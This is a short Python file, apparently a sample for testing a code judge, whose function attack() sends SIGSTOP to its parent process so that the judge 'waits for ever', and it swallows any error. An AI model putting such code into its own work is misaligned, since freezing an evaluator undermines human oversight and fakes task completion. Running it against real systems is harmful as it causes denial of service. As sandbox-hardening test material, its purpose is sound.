"""Stops its parent, so that the judge waits for ever."""

import os
import signal


def attack():
    try:
        os.kill(os.getppid(), signal.SIGSTOP)
    except OSError:
        pass
